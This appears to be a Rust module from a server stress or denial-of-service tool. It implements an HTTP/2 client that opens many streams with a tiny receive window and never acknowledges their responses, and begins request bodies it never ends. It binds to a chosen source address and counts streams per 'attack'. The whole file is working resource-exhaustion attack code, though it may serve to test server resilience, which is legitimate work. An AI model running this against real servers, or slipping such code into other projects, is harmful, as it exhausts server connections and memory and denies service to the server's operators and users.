//! An HTTP/2 client that decides itself how much it takes: many streams whose answers nobody reads, many bodies that nobody ends.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use bytes::Bytes;
use h2::SendStream;
use h2::client::{Builder, ResponseFuture, SendRequest};
use http::Request;
use tokio::task::{JoinHandle, JoinSet};
use tokio::time::timeout;

use super::dial::dial;
use super::http::{Ask, Failure};

/// Longest wait for one more stream.
const STREAM_MAX: Duration = Duration::from_secs(3);

/// One connection, and what became of the streams on it. PINGs are answered as long as it lives.
pub(crate) struct Streams {
    sender: SendRequest<Bytes>,
    authority: String,
    connection: JoinHandle<()>,
    held: JoinSet<()>,
    unfinished: Vec<SendStream<Bytes>>,
}

/// What became of the streams of an attack.
#[derive(Debug, Default)]
pub(crate) struct Tally {
    asked: AtomicUsize,
    /// Answered with success, and not ended since.
    open: AtomicUsize,
    /// Answered with a refusal.
    refused: AtomicUsize,
    /// Ended by the server: before its answer, or in the middle of it.
    ended: AtomicUsize,
}

impl Streams {
    /// A client that lets each stream send so many bytes, and takes none of them.
    pub(crate) async fn connect(
        address: SocketAddr,
        source: IpAddr,
        window_bytes: u32,
    ) -> Result<Self, Failure> {
        let stream = dial(address, Some(source)).await?;
        let mut builder = Builder::new();
        builder.initial_window_size(window_bytes).enable_push(false);
        let (sender, connection) = builder.handshake(stream).await?;
        let connection = tokio::spawn(async move {
            // Its end is seen by the streams.
            let _ = connection.await;
        });
        let (held, unfinished) = (JoinSet::new(), Vec::new());
        Ok(Self { sender, authority: address.to_string(), connection, held, unfinished })
    }

    /// Asks, and takes no byte of the answer.
    pub(crate) async fn hold(&mut self, ask: &Ask, tally: &Arc<Tally>) -> Result<(), h2::Error> {
        self.ask(ask, true, tally).await.map(drop)
    }

    /// Begins a request with a part of its body, and never ends it.
    pub(crate) async fn begin(
        &mut self,
        ask: &Ask,
        part: Bytes,
        tally: &Arc<Tally>,
    ) -> Result<(), h2::Error> {
        let mut body = self.ask(ask, false, tally).await?;
        // The library sends it as the server's window allows.
        body.send_data(part, false)?;
        self.unfinished.push(body);
        Ok(())
    }

    async fn ask(
        &mut self,
        ask: &Ask,
        ends: bool,
        tally: &Arc<Tally>,
    ) -> Result<SendStream<Bytes>, h2::Error> {
        let uri = format!("http://{}{}", self.authority, ask.target);
        let mut request = Request::builder().method(ask.method.clone()).uri(uri).body(()).expect("a request");
        request.headers_mut().extend(ask.headers.clone());
        // A server may bound the streams of a connection below what is asked for; then there are no more to be had.
        let ready = timeout(STREAM_MAX, self.sender.clone().ready()).await;
        self.sender = ready.unwrap_or_else(|_| Err(h2::Reason::REFUSED_STREAM.into()))?;
        let (response, body) = self.sender.send_request(request, ends)?;
        tally.asked.fetch_add(1, Ordering::SeqCst);
        self.held.spawn(watch(response, Arc::clone(tally)));
        Ok(body)
    }

    pub(crate) fn is_open(&self) -> bool {
        !self.connection.is_finished()
    }
}

impl Drop for Streams {
    fn drop(&mut self) {
        self.connection.abort();
    }
}

async fn watch(response: ResponseFuture, tally: Arc<Tally>) {
    let Ok(response) = response.await else {
        tally.ended.fetch_add(1, Ordering::SeqCst);
        return;
    };
    let is_success = response.status().is_success();
    let counter = if is_success { &tally.open } else { &tally.refused };
    counter.fetch_add(1, Ordering::SeqCst);
    let mut body = response.into_body();
    // What comes is never acknowledged, so that the window stays as it is.
    while let Some(Ok(_)) = body.data().await {}
    if is_success {
        tally.open.fetch_sub(1, Ordering::SeqCst);
        tally.ended.fetch_add(1, Ordering::SeqCst);
    }
}

impl Tally {
    pub(crate) fn asked(&self) -> usize {
        self.asked.load(Ordering::SeqCst)
    }

    pub(crate) fn open(&self) -> usize {
        self.open.load(Ordering::SeqCst)
    }

    pub(crate) fn ended(&self) -> usize {
        self.ended.load(Ordering::SeqCst)
    }

    pub(crate) fn refused(&self) -> usize {
        self.refused.load(Ordering::SeqCst)
    }

    /// Something is known of every stream.
    pub(crate) fn is_settled(&self) -> bool {
        self.open() + self.refused() + self.ended() >= self.asked()
    }
}

impl std::fmt::Display for Tally {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let [asked, open, refused, ended] = [self.asked(), self.open(), self.refused(), self.ended()];
        write!(f, "{asked} streams asked, {open} open, {refused} refused, {ended} ended")
    }
}
